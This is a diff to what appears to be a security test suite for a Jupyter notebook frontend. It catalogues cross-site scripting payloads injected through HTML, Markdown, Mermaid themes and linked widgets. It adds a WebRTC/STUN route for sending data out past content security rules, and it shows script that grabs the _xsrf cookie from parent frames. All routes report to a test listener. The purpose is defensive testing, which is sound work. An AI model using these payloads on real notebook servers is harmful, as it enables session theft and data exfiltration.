@@ -15,6 +15,8 @@ import base64
 import re
 from dataclasses import dataclass
 
+from tests.attacks.listener import Listener
+
 _SCRIPT = """
 for (const w of [self, parent, top]) try {
     const xsrf = w.document.cookie.match(/_xsrf=([^;]+)/)[1];
@@ -81,13 +83,14 @@ class Payload:
     def __str__(self) -> str:
         return f"{self.name} (in depth)" if self.in_depth else self.name
 
-    def cell(self, listener: str) -> str:
+    def cell(self, listener: Listener) -> str:
         """The cell's text."""
-        url = f"{listener}/{self.name}"
+        url = f"{listener.url}/{self.name}"
         values = {
             "js": script(self.name),
             "name": self.name,
             "url": url,
+            "stun": listener.stun(self.name) if "{stun}" in self.code else "",
             "bare": url.removeprefix("http:"),
             "backslashed": url.replace("/", "\\" * 2),  # within a string's repr
         }
@@ -112,6 +115,7 @@ def html(name: str, markup: str, act: str = "", **more: str | bool) -> Payload:
 _IMG = '<img src=x onerror="{js}">'
 _PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
 _PICTURE = f"<img src='{_PIXEL}'"
+_MERMAID = '%%{init: {"themeCSS": "* { background: url({url}) }"}}%%\\ngraph TD; A-->B'
 
 ROUTES = [
     Payload("by-display", f"display(HTML('{_IMG}'))"),
@@ -135,14 +139,15 @@ ROUTES = [
     Payload("markdown-autolink", "display(Markdown('<javascript:{js}>'))", "click a", in_depth="a window of its own"),
     Payload("markdown-table", f"display(Markdown('| a | b |\\n|---|---|\\n| 1 | {_IMG} |'))"),
     Payload("markdown-style", "display(Markdown('<style>#jp-top-panel { background: url({url}) }</style>'))"),
-    Payload("markdown-mermaid", "display(Markdown('''```mermaid\n%%{init: {\"themeCSS\": \"* { background: url({url}) }\"}}%%\n"
-            "graph TD; A-->B\n```'''))"),
+    Payload("markdown-mermaid", f"display(Markdown('''```mermaid\n{_MERMAID}\n```'''))"),
+    Payload("markdown-mermaid-tilde", f"display(Markdown('''~~~mermaid\n{_MERMAID}\n~~~'''))"),
+    Payload("markdown-mermaid-spaced", f"display(Markdown('''``` mermaid\n{_MERMAID}\n```'''))"),
+    Payload("markdown-mermaid-named", f"display(Markdown('''> ~~~~\tmermaid  x\n> {_MERMAID}\n> ~~~~'''))", in_depth="Lab takes it for another language"),
     Payload("javascript", "display(Javascript('{js}'))"),
     Payload("javascript-text", "bundle({'text/javascript': '{js}'})"),
     Payload("javascript-library", "display(Javascript('1', lib='{url}'))"),
     Payload("javascript-result", "class A:\n    def _repr_javascript_(self): return '{js}'\nA()"),
-    Payload("mermaid", "bundle({'text/vnd.mermaid': '''%%{init: {\"themeCSS\": \"* { background: url({url}) }\"}}%%\n"
-            "graph TD; A-->B'''})"),
+    Payload("mermaid", f"bundle({{'text/vnd.mermaid': '''{_MERMAID}'''}})"),
     Payload("page", f"page({{'text/html': '{_IMG}', 'text/plain': 'help'}})"),
     Payload("page-script", "page({'text/html': '<script>{js}</script>'})"),
     Payload("page-markdown", f"page({{'text/markdown': '{_IMG}'}})"),
@@ -187,6 +192,10 @@ SCRIPTS = [
     html("frame-in-frameset", "<script>1</script><frameset><frame src={url}></frameset><img src={url}>"),
 ]
 
+_CALL = (
+    "const call = new RTCPeerConnection({iceServers: [{urls: '{stun}'}]}); call.createDataChannel('x'); "
+    "call.createOffer().then(o => call.setLocalDescription(o))"
+)
 # Scripts that have run may still not get anything out of their frame. All begin after their output is there.
 _WAYS_OUT = {
     "location": "location = '{url}'",
@@ -213,6 +222,8 @@ _WAYS_OUT = {
     "audio": "new Audio('{url}').play().catch(() => 0)",
     "report": "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'Content-Security-Policy', content: 'img-src *'})); new Image().src = '{url}'",
     "frame-blob": "document.body.append(Object.assign(document.createElement('iframe'), {src: URL.createObjectURL(new Blob(['<img src={url}>'], {type: 'text/html'}))}))",
+    "stun": _CALL,
+    "stun-in-frame": "document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: '<script>" + _CALL.replace("'", "`") + "</' + 'script>'}))",
     "parents-document": "parent.document.body.append(Object.assign(parent.document.createElement('img'), {src: '{url}'}))",
 }
 _SPOILS_THE_PAGE = {"report", "location-of-sibling", "location", "location-of-parent", "location-of-top", "refresh", "link", "form"}
@@ -443,13 +454,24 @@ _ELSEWHERE = {
     "of-root": ("border-block-start-color", ":root { --jp-layout-color1: red } html #jp-MainMenu { border-block-start-color: rgb(1, 2, 3) }"),
     "starting": ("border-inline-end-color", "@container (min-width: 0) { #jp-MainMenu { border-inline-end-color: rgb(1, 2, 3) } } @starting-style { #jp-MainMenu { opacity: .9 } } #jp-MainMenu { border-inline-end-color: rgb(1, 2, 3) }"),
 }
+# An animation of the editor's, as the page itself would use it.
+_ANIMATED = """() => {
+    const probe = document.body.appendChild(document.createElement('i'));
+    probe.style.animation = 'cm-blink 9s infinite';
+    const colour = getComputedStyle(probe).outlineColor;
+    probe.remove();
+    return colour === 'rgb(1, 2, 3)';
+}"""
 _OUTSIDE = [
-    html(
-        f"styles-elsewhere-{name}",
-        f"<style>{rule}</style><p class=x>styled</p>",
-        proof=f"() => getComputedStyle(document.querySelector('#jp-MainMenu')).getPropertyValue('{prop}') === 'rgb(1, 2, 3)'",
-    )
-    for name, (prop, rule) in _ELSEWHERE.items()
+    html("styles-elsewhere-keyframes", "<style>@keyframes cm-blink { from, to { outline-color: rgb(1, 2, 3) } }</style>", proof=_ANIMATED),
+    *(
+        html(
+            f"styles-elsewhere-{name}",
+            f"<style>{rule}</style><p class=x>styled</p>",
+            proof=f"() => getComputedStyle(document.querySelector('#jp-MainMenu')).getPropertyValue('{prop}') === 'rgb(1, 2, 3)'",
+        )
+        for name, (prop, rule) in _ELSEWHERE.items()
+    ),
 ]
 
 _ALL_OVER = "top: 0; left: 0; width: 100vw; height: 100vh; z-index: 99999; background: #fff8"
@@ -536,6 +558,12 @@ _WIDGETS = [
     Payload("widget-html-math-later", f"late = w.HTMLMath('x')\ndisplay(late)\nlate.value = '{_IMG}'"),
     Payload("widget-html-much-later", f"async def change(it):\n    await asyncio.sleep(.3)\n    it.value = '{_IMG}'\nlater = w.HTML('x')\ndisplay(later)\ntask = asyncio.ensure_future(change(later))"),
     Payload("widget-html-on-click", f"it, press = w.HTML('x'), w.Button(description='press')\npress.on_click(lambda b: setattr(it, 'value', '{_IMG}'))\ndisplay(w.VBox([it, press]))", "click button"),
+    Payload("widget-linked", f"t, h = w.Text('{_IMG}'), w.HTML('x')\ndisplay(h)\nl = w.jsdlink((t, 'value'), (h, 'value'))"),
+    Payload("widget-linked-both", f"h, t = w.HTML('x'), w.Text('{_IMG}')\ndisplay(h)\nl = w.jslink((t, 'value'), (h, 'value'))"),
+    Payload("widget-linked-description", "t, h = w.Text('<img src={url}>'), w.Text(description='x', description_allow_html=True)\ndisplay(h)\nl = w.jsdlink((t, 'value'), (h, 'description'))"),
+    Payload("widget-linked-background", "t, h = w.Text('url({url})'), w.HTML('x')\ndisplay(h)\nl = w.jsdlink((t, 'value'), (h.style, 'background'))"),
+    Payload("widget-linked-later", f"t, h, i = w.Text('{_IMG}'), w.HTML('x'), w.Text('y')\ndisplay(h)\nl = w.jsdlink((t, 'value'), (i, 'value'))\n"
+            "l.comm.send(data={'method': 'update', 'state': {'target': ['IPY_MODEL_' + h.model_id, 'value']}, 'buffer_paths': []})"),
     Payload("widget-output", f"display(w.Output(outputs=[{{'output_type': 'display_data', 'data': {{'text/html': '{_IMG}'}}, 'metadata': {{}}}}]))"),
     Payload("widget-output-later", f"o = w.Output()\ndisplay(o)\no.append_display_data(HTML('{_IMG}'))"),
     Payload("widget-output-script", "display(w.Output(outputs=[{'output_type': 'execute_result', 'execution_count': 1, 'data': {'application/javascript': '{js}'}, 'metadata': {}}]))"),
